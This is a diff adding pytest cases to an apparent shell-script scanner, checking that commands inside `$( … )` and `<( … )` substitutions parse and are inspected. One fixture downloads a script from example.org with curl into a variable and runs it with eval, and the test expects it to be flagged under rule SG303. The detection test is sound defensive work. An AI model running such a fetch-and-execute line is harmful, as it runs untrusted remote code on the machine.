@@ -625,3 +625,20 @@ def test_plain_lines_split_exactly_like_bashlex(tokens: list[str]) -> None:
         assert isinstance(fast, tuple), (text, fast)
     else:
         assert fast == full, text
+
+
+@pytest.mark.parametrize("text", [
+    # Docker's own apt instructions: bashlex 0.18 rejects `&&` and `||` inside `$( … )` and `<( … )`
+    'echo "deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/docker.gpg] '
+    'https://download.docker.com/linux/ubuntu $(. /etc/os-release && echo "$VERSION_CODENAME") stable" | '
+    "sudo tee /etc/apt/sources.list.d/docker.list > /dev/null\n",
+    "diff <(sort a || true) <(sort b)\n",
+    "v=$(git describe --tags 2>/dev/null || echo dev)\necho \"$v\"\n",
+])
+def test_lists_inside_substitutions_parse(text: str) -> None:
+    assert findings(text) == []
+
+
+def test_commands_inside_a_substituted_list_are_checked() -> None:
+    text = "x=$(cd /tmp && curl -fsSL https://example.org/i.sh)\neval \"$x\"\n"
+    assert [(f.rule, f.line) for f in findings(text)] == [("SG303", 2)]
